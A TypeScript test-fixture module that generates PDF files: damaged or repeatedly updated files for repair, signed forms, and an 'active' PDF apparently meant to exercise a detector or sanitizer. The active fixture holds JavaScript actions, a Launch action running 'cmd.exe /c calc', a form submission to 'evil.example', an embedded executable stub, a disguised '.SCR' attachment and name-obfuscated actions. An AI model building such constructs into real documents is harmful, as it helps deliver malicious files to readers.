import { deflateSync } from 'node:zlib'
import { rawPdf, rawStream, updatedPdf } from './raw-pdf'
import { richPdf } from './rich-pdf'

type Made = () => Buffer

const replaced = (file: Buffer, what: string | RegExp, by: string) => Buffer.from(file.toString('latin1').replace(what, by), 'latin1')

/** The rich file in ways that programs leave files behind; a copy keeps everything of each. */
export const MENDED: Record<string, Made> = {
  'a file updated twice': () =>
    updatedPdf(
      updatedPdf(richPdf(), { 11: rawStream('BT /F1 18 Tf 60 240 Td (An old draft) Tj ET'), 51: '<</Title(Draft)/Parent 50 0 R/Next 52 0 R/Dest[10 0 R/Fit]>>' }, '/Info 74 0 R'),
      { 11: rawStream('BT /F1 18 Tf 60 240 Td (The last word) Tj ET'), 51: '<</Title(Last)/Parent 50 0 R/Next 52 0 R/Dest[20 0 R/Fit]>>', 80: '(new)' },
      '/Info 74 0 R',
    ),
  'a file whose cross-reference is elsewhere': () => replaced(richPdf(), /startxref\n\d+/, 'startxref\n17'),
  'a file whose offsets are all wrong': () => replaced(richPdf(), /\n(\d{10}) 00000 n/g, '\n0000000007 00000 n'),
  'a file that ends before its cross-reference': () => {
    const file = richPdf()
    return file.subarray(0, file.lastIndexOf('xref\n0 1'))
  },
  'a file with a letter in front of it': () => Buffer.concat([Buffer.from('Dear reader,\r\n'), richPdf()]),
  'a file with a page of HTML behind it': () => Buffer.concat([richPdf(), Buffer.from('<html>1 0 R endobj</html>\n'.repeat(90))]),
  'a file with line ends of another system': () => replaced(richPdf(), /\nendobj\n/g, '\r\nendobj\r\n\r\n'),
  'a file whose lengths stand behind their streams': () => {
    let number = 900
    const lengths: string[] = []
    const file = richPdf().toString('latin1').replaceAll(/\/Length (\d+)>>/g, (_, length: string) => {
      number += 1
      lengths.push(`${number} 0 obj\n${length}\nendobj\n`)
      return `/Length ${number} 0 R>>`
    })
    return Buffer.from(file.replace('xref\n0 1', `${lengths.join('')}xref\n0 1`), 'latin1')
  },
  'a file of which old readers see less': hybrid,
}

/** A cross-reference table that names a cross-reference stream too (ISO 32000-1, 7.5.8.4): the attachment is in an object stream. */
function hybrid(): Buffer {
  const file = richPdf().toString('latin1')
  const moved = '<</Type/Filespec/F(prices.csv)/UF(prices.csv)/EF<</F 73 0 R>>/Desc(What it costs)>>'
  const kept = file.replace(`72 0 obj\n${moved}\nendobj\n`, '').replace(/72 1\n\d{10} 00000 n \n/, '')
  const body = kept.slice(0, kept.lastIndexOf('xref\n0 1'))
  const packed = deflateSync(Buffer.from(`72 0 ${moved}`))
  const stream = `90 0 obj\n${rawStream(packed, '/Type/ObjStm/N 1/First 5/Filter/FlateDecode').toString('latin1')}\nendobj\n`
  const rows = deflateSync(Buffer.from([2, 0, 0, 90, 0]))
  const index = `91 0 obj\n${rawStream(rows, '/Type/XRef/Size 92/W[1 3 1]/Index[72 1]/Filter/FlateDecode').toString('latin1')}\nendobj\n`
  const all = body + stream + index
  const entries = [...all.matchAll(/(\d+) 0 obj\n/g)].map(({ 1: number, index: at }) => `${number} 1\n${String(at).padStart(10, '0')} 00000 n \n`)
  return Buffer.from(`${all}xref\n0 1\n0000000000 65535 f \n${entries.join('')}trailer\n<</Size 92/Root 1 0 R/Info 74 0 R/ID[<00><00>]/XRefStm ${all.indexOf('91 0 obj')}>>\nstartxref\n${all.length}\n%%EOF\n`, 'latin1')
}

/** A page with a script, a program or an order of every kind on it, and what is no harm beside them. */
export const activePdf: Made = () =>
  rawPdf({
    1: '<</Type/Catalog/Pages 2 0 R/OpenAction 10 0 R/AA<</WC<</S/JavaScript/JS(wc)>>/DP<</S/Named/N/Print>>>>/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(named)>>]>>/EmbeddedFiles<</Names[(setup.exe)20 0 R(prices.csv)22 0 R(trick)24 0 R]>>>>/AcroForm<</Fields[30 0 R]/XFA[(template)31 0 R]>>/Outlines 40 0 R>>',
    2: '<</Type/Pages/Count 1/Kids[3 0 R]>>',
    3: '<</Type/Page/Parent 2 0 R/MediaBox[0 0 420 300]/Contents 4 0 R/Annots[11 0 R 12 0 R 13 0 R 14 0 R 15 0 R 30 0 R 16 0 R]/AA<</O<</S/JavaScript/JS(opened)>>>>>>',
    4: rawStream('0 0 1 rg 300 200 50 50 re f'),
    10: '<</S/GoTo/D[3 0 R/Fit]/Next[<</S/JavaScript/JS 32 0 R>><</S/GoTo/D[3 0 R/FitH 9]>>]>>',
    11: '<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</Type/Action/S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>>>>>',
    12: '<</Type/Annot/Subtype/Link/Rect[10 0 19 9]/A<</S/URI/URI(https://halden.example)>>>>',
    13: '<</Type/Annot/Subtype/Link/Rect[20 0 29 9]/A<</S/URI/URI(JavaScript:alert\\(1\\))>>>>',
    14: '<</Type/Annot/Subtype/Link/Rect[30 0 39 9]/A<</S/#4aavaScript/J#53(app.alert(1))>>>>',
    15: '<</Type/Annot/Subtype/Screen/Rect[40 0 49 9]/A<</S/Rendition/OP 0/JS(rendition)>>>>',
    16: '<</Type/Annot/Subtype/Widget/FT/Btn/Ff 65536/Rect[60 0 69 9]/A<</S/ImportData/F(a.fdf)>>>>',
    20: '<</Type/Filespec/F(setup.exe)/EF<</F 21 0 R>>>>',
    21: rawStream('MZ program', '/Type/EmbeddedFile'),
    22: '<</Type/Filespec/F(prices.csv)/UF(prices.csv)/EF<</F 23 0 R>>>>',
    23: rawStream('a,b', '/Type/EmbeddedFile'),
    24: '<</Type/Filespec/F(report.pdf)/UF(report.pdf.SCR )/EF<</F 25 0 R/UF 25 0 R>>>>',
    25: rawStream('MZ other', '/Type/EmbeddedFile'),
    30: '<</Type/Annot/Subtype/Widget/FT/Btn/Ff 65536/T(send)/Rect[50 0 59 9]/A<</S/SubmitForm/F(https://evil.example)>>/AA<</U<</S/JavaScript/JS(up)>>>>>>',
    31: rawStream('<template><event><script>xfa.host.messageBox("a")</script></event></template>'),
    32: rawStream('streamed script'),
    33: rawStream('no action', '/S/JavaScript/JS(app.alert(2))'),
    34: '<</Type/Annot/Subtype/Link/Rect[70 0 79 9]/A 33 0 R>>',
    40: '<</Type/Outlines/First 41 0 R/Last 41 0 R/Count 1>>',
    41: '<</Title(Run)/Parent 40 0 R/A<</S/Launch/F(cmd.exe)>>>>',
  })

/** A form whose signature field is signed, though no flag says so, two levels down. */
export const signedPdf: Made = () =>
  rawPdf({
    1: '<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[5 0 R]>>>>',
    2: '<</Type/Pages/Count 1/Kids[3 0 R]>>',
    3: '<</Type/Page/Parent 2 0 R/MediaBox[0 0 420 300]/Contents 4 0 R/Annots[6 0 R]>>',
    4: rawStream(''),
    5: '<</T(person)/Kids[6 0 R]>>',
    6: '<</T(signature)/FT/Sig/V 7 0 R/Type/Annot/Subtype/Widget/Rect[0 0 9 9]/Parent 5 0 R>>',
    7: '<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/adbe.pkcs7.detached/ByteRange[0 1 2 3]/Contents<00>>>',
  })

/**
 * A page with a filled form that two people and a clock have signed, the second by a field whose kind stands above it:
 * marks on the page, permissions of the signature, and what proves it later.
 */
export const signedFormPdf: Made = () =>
  rawPdf({
    1: '<</Type/Catalog/Pages 2 0 R/AcroForm<</SigFlags 3/Fields[5 0 R 8 0 R 12 0 R 16 0 R]/DA(/Helv 0 Tf 0 g)>>/Perms<</DocMDP 7 0 R>>/DSS<</Certs[]>>>>',
    2: '<</Type/Pages/Count 1/Kids[3 0 R]>>',
    3: '<</Type/Page/Parent 2 0 R/MediaBox[0 0 420 300]/Contents 4 0 R/Annots[6 0 R 8 0 R 10 0 R 14 0 R]>>',
    4: rawStream('0 0 1 rg 300 200 50 50 re f'),
    5: '<</T(vendor)/FT/Sig/V 7 0 R/Kids[6 0 R]>>',
    6: '<</Type/Annot/Subtype/Widget/Rect[20 100 120 140]/Parent 5 0 R/P 3 0 R/AP<</N 11 0 R>>>>',
    7: '<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/adbe.pkcs7.detached/ByteRange[0 1 2 3]/Contents<00>/Reference[<</Type/SigRef/TransformMethod/DocMDP>>]>>',
    8: '<</Type/Annot/Subtype/Widget/T(place)/FT/Tx/V(Gdynia)/Rect[20 20 120 40]/P 3 0 R>>',
    10: '<</Type/Annot/Subtype/Widget/T(second)/V 7 0 R/Rect[140 100 240 140]/Parent 12 0 R/P 3 0 R/AP<</N 11 0 R>>>>',
    11: rawStream('0 1 0 rg 0 0 100 40 re f', '/Type/XObject/Subtype/Form/BBox[0 0 100 40]'),
    12: '<</T(partner)/FT/Sig/Kids[10 0 R 14 0 R]>>',
    14: '<</Type/Annot/Subtype/Widget/T(empty)/Rect[250 100 290 140]/Parent 12 0 R/P 3 0 R>>',
    16: '<</T(time)/FT/Sig/V<</Type/DocTimeStamp/ByteRange[0 1 2 3]/Contents<00>>>>>',
  })
